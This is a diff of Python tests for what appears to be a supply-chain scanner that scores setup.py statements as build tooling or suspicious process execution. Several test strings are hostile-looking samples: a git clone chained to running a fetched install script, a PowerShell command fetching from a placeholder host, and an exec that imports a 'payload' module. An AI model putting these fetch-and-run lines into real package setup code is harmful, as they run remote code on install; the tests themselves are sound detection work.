@@ -803,3 +803,41 @@ def test_a_chat_api_named_weighs_less_than_one_with_its_credentials_or_one_sent_
     named = weight("exfiltration-endpoint", {"acme/api.py": base})
     assert 0 < named < weight("exfiltration-endpoint", {"acme/api.py": token})
     assert named < weight("exfiltration-endpoint", {"acme/api.py": sent})
+
+
+def _setup_runs(line: str) -> dict[str, str]:
+    """A setup.py that runs ``line`` (one statement) as pip runs it."""
+    return {"setup.py": f"import os, shutil, subprocess, sys\n{line}\n"}
+
+
+def test_a_version_control_checkout_of_sources_is_build_tooling() -> None:
+    """``git clone URL vendor/lib`` fetches sources a build compiles; a clone chained to a
+    script it runs is still a fetch that runs code."""
+    clone = "subprocess.run(['git', 'clone', '--depth', '1', 'https://git.example.invalid/l.git'])"
+    chained = "os.system('git clone https://git.example.invalid/l.git && sh l/install.sh')"
+    assert weight("process-exec", _setup_runs(clone)) < 0.1
+    assert weight("process-exec", _setup_runs(chained)) > 0.3
+
+
+def test_a_shell_line_of_build_tools_only_is_build_tooling() -> None:
+    """A compiler check (``bash -c "g++ -x c++ - <<<'int main() {}' -o t && rm t"``) runs build
+    tools only, its quoted program left aside; a line that then runs what it built is not."""
+    check = 'os.system("bash -c \\"g++ -x c++ - <<<\'int main() {}\' -o t && rm t\\"")'
+    runs = 'os.system("bash -c \\"g++ a.c -o t && ./t\\"")'
+    assert weight("process-exec", _setup_runs(check)) < 0.1
+    assert weight("process-exec", _setup_runs(runs)) > 0.3
+
+
+def test_a_program_found_with_which_is_classified_by_its_name() -> None:
+    npm = "npm = shutil.which('npm')\nsubprocess.run([npm, 'install'])"
+    ps = "ps = shutil.which('powershell')\nsubprocess.run([ps, '-NoP', '-c', 'iwr https://x.example.invalid/a'])"
+    literal = "subprocess.run(['powershell', '-NoP', '-c', 'iwr https://x.example.invalid/a'])"
+    assert weight("process-exec", _setup_runs(npm)) < 0.1
+    assert weight("process-exec", _setup_runs(ps)) == weight("process-exec", _setup_runs(literal))
+
+
+def test_restarting_python_with_its_own_arguments_is_running_python() -> None:
+    restart = "os.execve(sys.executable, [sys.executable] + sys.argv, dict(os.environ))"
+    inline = "os.execv(sys.executable, [sys.executable, '-c', 'import acme.payload'])"
+    assert weight("process-exec", _setup_runs(restart)) < 0.1
+    assert weight("process-exec", _setup_runs(inline)) > 0.3
